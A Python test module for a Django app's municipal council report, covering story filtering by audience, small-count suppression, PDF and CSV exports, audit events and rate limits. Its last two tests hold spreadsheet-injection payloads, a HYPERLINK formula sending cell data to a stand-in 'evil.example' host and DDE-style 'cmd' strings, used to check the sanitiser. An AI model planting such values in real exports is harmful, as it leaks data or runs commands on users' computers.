"""The council report: published stories only, honest numbers, PDF and CSV, audited."""

import subprocess

import pytest

from zorgzaam.accounts.roles import Role
from zorgzaam.audit.models import AuditEvent
from zorgzaam.common.testing import login
from zorgzaam.reports import sources
from zorgzaam.reports.models import BudgetEntry
from zorgzaam.reports.selectors import report_build
from zorgzaam.stories.models import Audience
from zorgzaam.stories.tests.factories import approved_story

pytestmark = pytest.mark.django_db

PERIOD = "2026-Q3"


@pytest.fixture
def stories(world):
    council = approved_story(
        world,
        title="Samen koken",
        text="Wij koken samen in het dorpshuis.",
        audience=Audience.COUNCIL,
        period=PERIOD,
    )
    public = approved_story(
        world,
        title="De bankjes",
        text="Er staan nu bankjes bij de kerk.",
        audience=Audience.PUBLIC,
        period=PERIOD,
        area=world.village_b,
    )
    muni = approved_story(
        world, title="Alleen gemeente", audience=Audience.MUNICIPALITY, period=PERIOD
    )
    return council, public, muni


def test_report_shows_council_stories_only(client, world, stories):
    council, public, muni = stories
    login(client, world.users[Role.POLICY_OFFICER])
    response = client.get(f"/report/?period={PERIOD}")
    assert response.status_code == 200
    body = response.content.decode()
    annex = client.get(f"/report/stories/?period={PERIOD}").content.decode()
    assert "Samen koken" in annex and "De bankjes" in annex and "Alleen gemeente" not in annex
    assert "Alleen gemeente" not in body
    assert "Bron: CBS / Kadaster, 2024" in body
    assert "<svg" in body and "<circle" in body
    assert "nog geen gegevens" in body.lower() or "niet beschikbaar" in body.lower()
    assert AuditEvent.objects.filter(event="reports.view").exists()


def test_public_report_shows_public_stories_only(client, world, stories):
    response = client.get(f"/report/public/{world.municipality.slug}/?period={PERIOD}")
    assert response.status_code == 200
    slug = world.municipality.slug
    body = client.get(f"/report/public/{slug}/stories/?period={PERIOD}").content.decode()
    assert "De bankjes" in body and "Samen koken" not in body
    assert client.get("/report/public/bestaat-niet/").status_code == 404


def test_bad_period_is_a_clear_error(client, world):
    login(client, world.users[Role.POLICY_OFFICER])
    response = client.get("/report/?period=2026-Q9")
    assert response.status_code == 400
    assert "2026-Q3" in response.content.decode()
    assert client.get("/report/csv/?period=nonsense").status_code == 400


def test_csv_has_no_small_counts_and_is_audited(client, world, stories, monkeypatch, settings):
    settings.REPORT_SMALL_CELL_THRESHOLD, settings.REPORT_ROUND_TO = 5, 1

    def fake_help(municipality, period):
        return [
            {
                "area_id": world.village_a.public_id,
                "area": "Noorddorp",
                "total": 3,
                "requests": {"done": 2, "accepted": 1},
                "buddies": 0,
                "volunteers_active": 2,
            },
            {
                "area_id": world.village_b.public_id,
                "area": "Zuiddorp",
                "total": 40,
                "requests": {"done": 30, "planned": 6},
                "buddies": 7,
                "volunteers_active": 12,
            },
        ]

    real = sources.selector
    monkeypatch.setattr(
        sources,
        "selector",
        lambda m, n: fake_help if n == "help_counts_by_village" else real(m, n),
    )
    login(client, world.users[Role.POLICY_OFFICER])
    response = client.get(f"/report/csv/?period={PERIOD}")
    assert response.status_code == 200
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # the byte-order mark Dutch Excel needs
    rows = [line.split(",") for line in body[1:].splitlines()]
    assert rows[0][:4] == ["period", "area_code", "area_name", "measure_code"]
    help_rows = [r for r in rows if r[3].startswith("help.") and "median" not in r[3]]
    assert help_rows
    for r in help_rows:
        assert (r[6], r[8]) == ("", "true") or (int(r[6]) >= 5 or r[6] == "0"), r
    assert any(r[8] == "true" for r in help_rows)
    assert AuditEvent.objects.filter(event="reports.export_csv").exists()
    page = client.get(f"/report/?period={PERIOD}").content.decode()
    assert "&lt; 5" in page


def test_pdf_is_a_pdf_with_the_title(client, world, stories, tmp_path):
    login(client, world.users[Role.TEAM_LEAD])
    response = client.get(f"/report/pdf/?period={PERIOD}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(response.content)
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert "Raadsrapportage" in text and world.municipality.name in text
    assert "Inhoud" in text and "Bijlage: alle andere gepubliceerde verhalen" in text
    # the other published stories are in the annex, a PDF of its own that the report links
    assert "Samen koken" not in text and f"/report/pdf/annex/?period={PERIOD}" in text
    annex = client.get(f"/report/pdf/annex/?period={PERIOD}")
    assert annex.status_code == 200 and annex["Content-Type"] == "application/pdf"
    assert "bijlage.pdf" in annex["Content-Disposition"]
    pdf.write_bytes(annex.content)
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert "Samen koken" in text and "Bijlage: alle andere gepubliceerde verhalen" in text
    assert world.village_a.name in text
    targets = AuditEvent.objects.filter(event="reports.export_pdf").values_list(
        "target_id", flat=True
    )
    assert sorted(targets) == [f"council:{PERIOD}", f"council:{PERIOD}:annex"]


def test_sources_report_missing_parts_honestly(world, monkeypatch):
    monkeypatch.setattr(sources, "selector", lambda m, n: None)
    report = report_build(world.municipality, PERIOD)
    parts = [s for s in report.sections if s.key != "budget"]  # budget: our own table
    assert all(s.status == sources.NO_MODULE for s in parts)
    assert next(s for s in report.sections if s.key == "budget").status == sources.NO_DATA

    def broken(*args):
        raise RuntimeError("boom")

    monkeypatch.setattr(sources, "selector", lambda m, n: broken)
    report = report_build(world.municipality, PERIOD)
    assert all(s.status == sources.BROKEN for s in report.sections if s.key != "budget")
    monkeypatch.setattr(sources, "selector", lambda m, n: lambda *a: [{"area_id": 1, "x": -1}])
    assert report_build(world.municipality, PERIOD).sections[0].status == sources.BROKEN


def test_access(client, world):
    for role in (Role.RESIDENT, Role.VOLUNTEER, Role.PROFESSIONAL, Role.HUB_COORDINATOR):
        login(client, world.users[role])
        assert client.get("/report/").status_code == 403
        assert client.get("/report/pdf/").status_code == 403


def test_cli_writes_csv(world, stories, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "r.csv"
    call_command(
        "report",
        "--municipality",
        world.municipality.code,
        "--period",
        PERIOD,
        "--format",
        "csv",
        "--output",
        str(out),
    )
    assert out.read_text(encoding="utf-8-sig").startswith("period,area_code,area_name")
    assert AuditEvent.objects.filter(event="reports.export_csv").exists()


def test_zrm_change_is_suppressed_per_domain(world, monkeypatch):
    rows = [
        {
            "domain": "fin",
            "name": "Financiën",
            "households": 22,
            "mean_change": 0.8,
            "improved": 14,
            "same": 5,
            "worse": 3,
        },
        {
            "domain": "won",
            "name": "Huisvesting",
            "households": 3,
            "mean_change": 1.0,
            "improved": 2,
            "same": 1,
            "worse": 0,
        },
    ]
    real = sources.selector
    monkeypatch.setattr(
        sources, "selector", lambda m, n: (lambda *a: rows) if n == "zrm_progress" else real(m, n)
    )
    section = next(s for s in report_build(world.municipality, PERIOD).sections if s.key == "zrm")
    assert section.has_data
    labels = [label for label, _cells, _total in section.table.labelled_rows()]
    assert labels == ["Financiën", "Huisvesting"]
    cells = {
        label: [c.display() for c in cells] for label, cells, _t in section.table.labelled_rows()
    }
    assert "3" not in cells["Financiën"] and "2" not in cells["Huisvesting"]
    assert any("Financiën" in str(label) for label, _v in section.figures)
    assert not any("Huisvesting" in str(label) for label, _v in section.figures)


def test_budget_table_and_care_to_welfare_section(client, world):
    officer = world.users[Role.POLICY_OFFICER]
    login(client, officer)
    assert client.get("/report/budget/").status_code == 200
    response = client.post(
        "/report/budget/",
        {"period": "2026-Q3", "formal": "300000", "welfare": "80000", "informal": "20000"},
    )
    assert response.status_code == 302
    bad = client.post("/report/budget/", {"period": "2026-Q3", "formal": "-5"})
    assert bad.status_code == 400
    assert BudgetEntry.objects.get(category="formal").amount == 300000
    assert AuditEvent.objects.filter(event="reports.budget_change").count() == 1
    section = next(
        s for s in report_build(world.municipality, PERIOD).sections if s.key == "budget"
    )
    assert section.has_data and "25%" in section.figures[-1][1]
    login(client, world.users[Role.TEAM_LEAD])
    assert client.get("/report/budget/").status_code == 403


def test_publication_defaults_follow_the_issue():
    """No figure from fewer than 10 people or households; counts rounded to 5."""
    from zorgzaam.conf import base

    assert base.REPORT_SMALL_CELL_THRESHOLD == 10
    assert base.REPORT_ROUND_TO == 5


def test_trend_and_maps_count_stories_per_quarter_and_village(world, django_assert_num_queries):
    from django.template.loader import render_to_string

    plan = {  # quarter: (stories in village a, in village b)
        "2025-Q1": (1, 0),  # before the six quarters: not counted
        "2025-Q3": (2, 0),
        "2026-Q1": (1, 1),
        "2026-Q2": (0, 3),
        "2026-Q3": (2, 1),
    }
    for p, (in_a, in_b) in plan.items():
        for _ in range(in_a):
            approved_story(world, period=p, title=f"A {p}")
        for _ in range(in_b):
            approved_story(world, period=p, title=f"B {p}", area=world.village_b)
    approved_story(world, period=PERIOD, audience=Audience.MUNICIPALITY, title="intern")
    from zorgzaam.stories.models import Level, Round, Selection, Story

    chosen = Story.objects.get(title="B 2026-Q3")
    rnd = Round.objects.create(municipality=world.municipality, period=PERIOD, title="Ronde")
    Selection.objects.create(
        municipality=world.municipality,
        round=rnd,
        story=chosen,
        level=Level.COUNCIL,
        selector_label="Raadscommissie",
        reason="Een kleine verandering met een groot effect.",
        reason_checked=True,
    )
    report = report_build(world.municipality, PERIOD)
    assert report.trend == [
        ("2025-Q2", 0),
        ("2025-Q3", 2),
        ("2025-Q4", 0),
        ("2026-Q1", 2),
        ("2026-Q2", 3),
        ("2026-Q3", 3),
    ]
    # maps: cumulative lights over the six quarters, new ones in each of the last four
    assert [(m["period"], m["lights"], m["new"]) for m in report.maps] == [
        ("2025-Q4", 2, 0),
        ("2026-Q1", 4, 2),
        ("2026-Q2", 7, 3),
        ("2026-Q3", 10, 3),
    ]
    assert sorted(s.title for s in report.stories) == ["A 2026-Q3", "A 2026-Q3", "B 2026-Q3"]
    assert report.story_table.row_keys == [world.village_a.pk, world.village_b.pk]
    # The story cards use no deferred field (each access would cost a query). The last work
    # visit (a section of its own, one query) is read before.
    from zorgzaam.reports.templatetags.report_visits import visit_last

    visit_last(report)
    with django_assert_num_queries(0):
        html = render_to_string("reports/report_pdf.html", {"report": report})
    assert "B 2026-Q3" in html and world.village_b.name in html
    assert "A 2026-Q3" not in html  # the other stories are in the annex, a PDF of its own
    from zorgzaam.reports.pdf import annex_pdf_html
    from zorgzaam.reports.selectors import annex_build

    annex = annex_build(world.municipality, PERIOD)
    with django_assert_num_queries(0):
        annex_html = annex_pdf_html(annex, Audience.COUNCIL)
    assert annex_html.count("A 2026-Q3") == 2 and "B 2026-Q3" not in annex_html
    assert "intern" not in annex_html
    assert [e["story"].pk for e in report.selections] == [chosen.pk]
    assert "Een kleine verandering met een groot effect." in html


def test_public_pdf_is_rendered_once_per_input_and_limited_per_client(
    client, world, stories, settings
):
    """Issue #15: every anonymous request rendered the PDF anew (seconds each, an audit row
    each, no limit). Now it is rendered once and served from the store (#23); new data is a
    new PDF, rendered by the background check; a client gets at most
    REPORTS_PUBLIC_PDF_PER_HOUR an hour."""
    from django.core.cache import cache

    cache.clear()
    settings.REPORTS_PDF_FRESH_SECONDS = 0  # checked against the data after every request
    url = f"/report/public/{world.municipality.slug}/pdf/?period={PERIOD}"
    renders = AuditEvent.objects.filter(event="reports.export_pdf")
    first = client.get(url)
    assert first.status_code == 200 and first.content.startswith(b"%PDF")
    second = client.get(url)
    assert second.content == first.content
    assert renders.count() == 1
    type(world.municipality).objects.filter(pk=world.municipality.pk).update(name="Nieuwdorp")
    assert client.get(url).content == first.content  # served while it is checked
    changed = client.get(url)
    assert changed.content != first.content and renders.count() == 1

    settings.REPORTS_PUBLIC_PDF_PER_HOUR = 3
    refused = client.get(url)
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    other = client.get(url, REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 200
    cache.clear()


def test_public_csv_never_hands_a_spreadsheet_a_formula(client, world, stories):
    """Issue #15: a domain named ``=HYPERLINK(...)`` was written as is into the public CSV."""
    import csv
    import io

    from zorgzaam.stories.models import Domain
    from zorgzaam.tenancy.models import Area

    evil = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    Domain.objects.filter(municipality=world.municipality).update(name=evil)
    Area.objects.filter(pk=world.village_b.pk).update(name=evil)  # a whole cell
    response = client.get(f"/report/public/{world.municipality.slug}/csv/?period={PERIOD}")
    text = response.content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + evil in cells
    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith(("+", "-")) and not c.lstrip("+-").isdigit()]


def test_csv_cell_keeps_numbers_and_phones():
    from zorgzaam.common.csvsafe import csv_cell

    assert csv_cell("-3") == "-3" and csv_cell("+31 6 12345678") == "+31 6 12345678"
    assert csv_cell(-0.5) == -0.5 and csv_cell("Noorddorp") == "Noorddorp"
    for bad in ("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "\t=1"):
        assert csv_cell(bad) == "'" + bad
